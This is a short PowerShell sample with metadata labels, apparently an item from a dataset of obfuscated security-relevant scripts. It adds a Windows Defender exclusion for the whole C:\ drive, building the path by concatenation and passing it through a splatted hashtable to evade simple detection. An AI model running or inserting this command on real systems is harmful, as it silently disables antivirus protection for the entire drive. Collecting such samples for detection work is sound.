# description: Adds a C:\ Defender exclusion through a splatted hashtable.
# family: security
# obfuscated: yes
$p = @{ ExclusionPath = 'C:' + '\' }
Add-MpPreference @p
